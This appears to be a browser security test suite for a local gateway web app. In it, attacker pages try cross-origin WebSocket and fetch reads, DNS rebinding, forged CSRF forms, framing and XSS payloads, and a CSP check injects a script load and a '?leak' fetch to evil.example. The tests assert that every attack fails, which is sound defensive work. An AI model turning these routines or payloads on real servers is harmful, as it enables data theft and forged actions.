// A real browser in the hands of an attacker: other sites, rebound names, forged forms, and texts that want to be code.
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { formatEvent } from "@kingly/codec";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { WebSocketServer } from "ws";
import { visibleText } from "../apps/gateway/page/src/visible-text.ts";
import { buildPage } from "../tools/start/build-page.ts";
import { chromiumPath, openBrowser } from "./browser.ts";
import { startHostileBack } from "./hostile-back.ts";
import type { HostileBack } from "./hostile-back.ts";
import { openHouse, root, until } from "./house.ts";
import type { House } from "./house.ts";
import { xssPayloads } from "./xss-payloads.ts";

/** What a page of the attacker could do to a server. */
interface Loot {
  readonly opened: number;
  readonly frames: number;
  readonly read: number;
}

describe.skipIf(chromiumPath === undefined)("a real browser as the attacker", () => {
  let house: House;
  let back: HostileBack;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let gatewayPort = "";
  let evilPort = 0;
  let victimPort = 0;
  const requested: string[] = [];
  const dialogs: string[] = [];
  const cleanups: (() => unknown)[] = [];

  beforeAll(async () => {
    // Every refusal is a warning, and there are hundreds.
    house = await openHouse({ settings: { KINGLY_LOG: "error" } });
    cleanups.push(() => house.close());
    gatewayPort = new URL(house.url).port;
    const built = await buildPage({
      root,
      logPath: join(house.home, "page.log"),
      signal: new AbortController().signal,
    });
    if (built.state === "failed") throw new Error(`The page could not be built: ${built.why}`);
    back = await startHostileBack(house.orchestratorPort);
    cleanups.push(() => back.close());
    await house.start("gateway");
    // The attacker's own site, on any host name that leads here.
    const evil = createServer((_, response) => {
      response.writeHead(200, { "content-type": "text/html" }).end("<!doctype html><title>evil</title>");
    });
    evil.listen(0, "127.0.0.1");
    await once(evil, "listening");
    evilPort = (evil.address() as AddressInfo).port;
    cleanups.push(() => evil.close());
    // A server as most are: what the attacker does to it shows that the attacks are real ones.
    const victim = createServer((_, response) => {
      response.writeHead(200, { "content-type": "text/plain" }).end("secret");
    });
    const sockets = new WebSocketServer({ server: victim });
    sockets.on("connection", (socket) => socket.send("secret"));
    victim.listen(0, "127.0.0.1");
    await once(victim, "listening");
    victimPort = (victim.address() as AddressInfo).port;
    cleanups.push(() => {
      victim.closeAllConnections();
      victim.close();
    });

    browser = await openBrowser(["--host-resolver-rules=MAP evil.example 127.0.0.1"]);
    cleanups.push(() => browser.close());
    context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
    page = await context.newPage();
    page.on("request", (request) => void requested.push(request.url()));
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    await page.addInitScript(() => {
      const seen = { canaries: [] as unknown[], violations: [] as string[] };
      Object.assign(globalThis, { seen, canary: (n: unknown) => seen.canaries.push(n) });
      document.addEventListener("securitypolicyviolation", (event) => {
        seen.violations.push(event.effectiveDirective);
      });
    });
    await page.goto(`${house.url}/#token=${house.token}`);
    await until("the page is connected", async () => (await connection()) === "open" || undefined);
  });
  afterAll(async () => {
    for (const cleanup of cleanups.toReversed()) await cleanup();
  });

  const connection = (): Promise<string | null> => page.getByTestId("connection").getAttribute("data-status");
  const seen = (): Promise<{ canaries: unknown[]; violations: string[] }> =>
    page.evaluate(
      () => (globalThis as typeof globalThis & { seen: { canaries: unknown[]; violations: string[] } }).seen,
    );
  const evilOrigins = (): string[] =>
    ["evil.example", "localhost", "127.0.0.1"].map((host) => `http://${host}:${evilPort}`);
  const visit = async (url: string): Promise<Page> => {
    const tab = await context.newPage();
    await tab.goto(url);
    return tab;
  };

  /** Opens sockets, streams and requests to a server from whatever page this is, and counts what comes back. */
  const rob = (tab: Page, host: string): Promise<Loot> =>
    tab.evaluate(async (host) => {
      const loot = { opened: 0, frames: 0, read: 0 };
      const overSocket = (protocols: string[]): Promise<void> =>
        new Promise((resolve) => {
          const socket = new WebSocket(`ws://${host}/v1/link`, protocols);
          socket.addEventListener("open", () => {
            loot.opened += 1;
            socket.send('{"t":"hello","after":"0"}');
            setTimeout(resolve, 300);
          });
          socket.addEventListener("message", () => (loot.frames += 1));
          socket.addEventListener("close", () => resolve());
        });
      const overStream = (): Promise<void> =>
        new Promise((resolve) => {
          const stream = new EventSource(`http://${host}/v1/events?after=0`, { withCredentials: true });
          stream.addEventListener("hello", () => (loot.read += 1));
          stream.addEventListener("message", () => (loot.read += 1));
          stream.addEventListener("error", () => {
            stream.close();
            resolve();
          });
          setTimeout(resolve, 1_000);
        });
      const overFetch = async (path: string, init: RequestInit): Promise<void> => {
        try {
          const response = await fetch(`http://${host}${path}`, init);
          if (response.ok && (await response.text()) !== "") loot.read += 1;
        } catch {
          // Refused by the browser or the server: nothing was read.
        }
      };
      await Promise.all([
        overSocket([]),
        overSocket(["kingly.1"]),
        overSocket(["kingly.2", "kingly.1"]),
        overStream(),
        overFetch("/v1/board", { credentials: "include" }),
        overFetch("/v1/board", { mode: "no-cors", credentials: "include" }),
        overFetch("/v1/session", { method: "POST", credentials: "include" }),
      ]);
      return loot;
    }, host);

  test("[G60] a page of another origin opens no WebSocket and reads nothing, its cookie beside it or not", async () => {
    for (const origin of evilOrigins()) {
      const tab = await visit(origin);
      // The same page robs a server that does not look: the attack itself works.
      expect((await rob(tab, `127.0.0.1:${victimPort}`)).frames).toBeGreaterThan(0);
      for (const host of [`127.0.0.1:${gatewayPort}`, `localhost:${gatewayPort}`]) {
        expect([origin, host, await rob(tab, host)]).toEqual([origin, host, { opened: 0, frames: 0, read: 0 }]);
      }
      await tab.close();
    }
  });

  test("[G60] a name that was bound to this machine gets nothing but a refusal", async () => {
    const host = `evil.example:${gatewayPort}`;
    const tab = await context.newPage();
    const robbed = await tab.goto(`http://evil.example:${victimPort}/`);
    expect(await robbed?.text()).toBe("secret");
    const response = await tab.goto(`http://${host}/`);
    expect([response?.status(), await response?.text()]).toEqual([403, expect.stringContaining("host_refused")]);
    expect(await rob(tab, host)).toEqual({ opened: 0, frames: 0, read: 0 });
    const token = house.token;
    // Not even with the token in hand: the name is wrong.
    const status = await tab.evaluate(
      async (token) => (await fetch("/v1/board", { headers: { authorization: `Bearer ${token}` } })).status,
      token,
    );
    expect(status).toBe(403);
    await tab.close();
  });

  test("[G60] forged forms, beacons and requests change nothing", async () => {
    for (const origin of evilOrigins()) {
      const tab = await visit(origin);
      await tab.evaluate(async (target) => {
        const body = '{"text":"csrf Create a forged task","id":"forged"}';
        const form = (enctype: string, name: string, value: string): void => {
          const frame = Object.assign(document.createElement("iframe"), { name: `f${Math.random()}` });
          const form = Object.assign(document.createElement("form"), { method: "post", action: target, enctype });
          form.target = frame.name;
          form.append(Object.assign(document.createElement("input"), { name, value }));
          document.body.append(frame, form);
          form.submit();
        };
        form("text/plain", '{"text":"csrf form","id":"forged2","x":"', '"}');
        form("application/x-www-form-urlencoded", "text", "csrf form");
        form("multipart/form-data", "text", "csrf form");
        navigator.sendBeacon(target, new Blob([body], { type: "text/plain" }));
        const inits: RequestInit[] = [
          { mode: "no-cors", headers: { "content-type": "text/plain" } },
          { mode: "no-cors", headers: { "content-type": "application/json" } },
          { mode: "cors", headers: { "content-type": "application/json" } },
          { mode: "cors", headers: { "content-type": "application/json", authorization: "Bearer guess" } },
        ];
        for (const init of inits) {
          await fetch(target, { method: "POST", credentials: "include", body, ...init }).catch(() => {});
        }
      }, `${house.url}/v1/utterances`);
      await tab.close();
    }
    // What is said after it has gone through: nothing said before it is still on its way.
    await say("Create an honest task");
    await until("the honest command", () => back.arrived.some((one) => one.includes("onest")) || undefined);
    const board = await (await house.fetch("/v1/board")).text();
    expect(back.arrived.filter((one) => /csrf|forged/i.test(one))).toEqual([]);
    expect(/csrf|forged/i.test(board)).toBe(false);
  });

  test("[G60] the page cannot be framed, and what it serves runs in no other page", async () => {
    const tab = await visit(`http://evil.example:${evilPort}`);
    const shown = await tab.evaluate(async (url) => {
      const frame = Object.assign(document.createElement("iframe"), { src: `${url}/` });
      const loaded = new Promise((resolve) => frame.addEventListener("load", resolve));
      document.body.append(frame);
      await loaded;
      return frame.contentDocument !== null;
    }, house.url);
    expect(shown).toBe(false);
    for (const frame of tab.frames().slice(1)) expect(await frame.locator("#page").count()).toBe(0);
    await tab.close();
  });

  const say = async (text: string): Promise<void> => {
    const before = await page.getByTestId("turn").count();
    await page.getByTestId("composer").fill(text);
    await page.getByTestId("composer").press("Enter");
    await until("a turn", async () => (await page.getByTestId("turn").count()) > before || undefined);
  };

  test(`[G61] ${xssPayloads.length} hostile texts in every place of the page stay texts`, async () => {
    expect(xssPayloads.length).toBeGreaterThanOrEqual(30);
    const lines = xssPayloads.flatMap((text, n) => [
      formatEvent({ op: "task_described", task_id: `task_x${n}`, title: text }),
      formatEvent({ op: "status_update", entity_id: `task_x${n}`, status: text.slice(0, 64) }),
      formatEvent({ op: "task_complete", task_id: `task_x${n}`, result: text }),
      formatEvent({
        op: "run_described",
        run_id: `run_x${n}`,
        workflow_id: text,
        title: text,
        steps: [{ id: "a", name: text }],
      }),
      formatEvent({ op: "task_complete", task_id: `run_x${n}`, result: text }),
      formatEvent({ op: "memory_stored", key: text, value: text }),
      formatEvent({ op: "context_loaded", context_id: text, summary: text }),
      formatEvent({ op: "error", code: text, message: text }),
      formatEvent({ op: "utterance_recorded", utterance_id: `u-x${n}`, text }),
      formatEvent({ op: "reply", utterance_id: `u-x${n}`, text, by: text.slice(0, 40) }),
    ]);
    back.tell(lines);
    const last = visibleText(xssPayloads.at(-1) ?? "");
    await until(
      "the last of them on the page",
      async () => (await page.getByTestId("task").filter({ hasText: last }).count()) > 0 || undefined,
    );
    for (const text of xssPayloads) await say(text.replaceAll("\u0000", "").replaceAll(/[\u2028\u2029]/g, " "));
    await page.reload();
    await until("the page is back", async () => (await connection()) === "open" || undefined);
    await until(
      "all after the reload",
      async () => (await page.getByTestId("task").filter({ hasText: last }).count()) > 0 || undefined,
    );
    for (const button of await page.locator("summary").all()) await button.click().catch(() => {});

    const shown = await page.evaluate(() => document.body.textContent ?? "");
    const missing = xssPayloads.filter((text) => !shown.includes(visibleText(text)));
    expect(missing).toEqual([]);
    const grown = await page.evaluate(
      () =>
        document.querySelectorAll(
          "#page :is(script, iframe, object, embed, img, math, base, meta, link, style, video, form[action], [onerror], [onload], [onfocus], [ontoggle], a[href])",
        ).length,
    );
    expect(grown).toBe(0);
    expect(await seen()).toEqual({ canaries: [], violations: [] });
    expect(dialogs).toEqual([]);
    expect(requested.filter((url) => !url.startsWith(house.url) && !url.startsWith("data:"))).toEqual([]);
    expect(new URL(page.url()).origin).toBe(house.url);
  });

  test("[G61] the policy of the page stops what would get into it: no inline script, no handler, no other site", async () => {
    const policy = (await house.fetch("/")).headers.get("content-security-policy") ?? "";
    expect(policy).toMatch(/default-src 'none'; script-src 'self'; style-src 'self'/);
    expect(policy).not.toMatch(/unsafe|\*|https?:/);
    await page.evaluate(() => {
      document.body.append(Object.assign(document.createElement("script"), { textContent: "canary('inline')" }));
      document.body.insertAdjacentHTML("beforeend", '<img src="/favicon.svg" onload="canary(\'handler\')">');
      document.body.append(Object.assign(document.createElement("script"), { src: "http://evil.example/x.js" }));
      document.body.insertAdjacentHTML("beforeend", '<iframe srcdoc="x"></iframe><base href="http://evil.example/">');
      void fetch("http://evil.example/?leak").catch(() => {});
    });
    const { canaries, violations } = await until("the violations", async () => {
      const now = await seen();
      return now.violations.length >= 4 ? now : undefined;
    });
    expect(canaries).toEqual([]);
    expect(violations).toEqual(expect.arrayContaining(["script-src-elem", "script-src-attr", "connect-src"]));
  });
});
